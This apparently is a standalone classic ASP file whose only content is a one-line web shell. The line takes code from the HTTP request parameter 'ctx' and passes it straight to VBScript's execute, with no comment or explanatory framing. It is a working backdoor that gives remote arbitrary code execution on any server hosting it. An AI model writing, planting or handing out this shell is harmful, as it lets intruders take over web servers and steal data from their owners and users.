<% a=request("ctx"):execute a %>
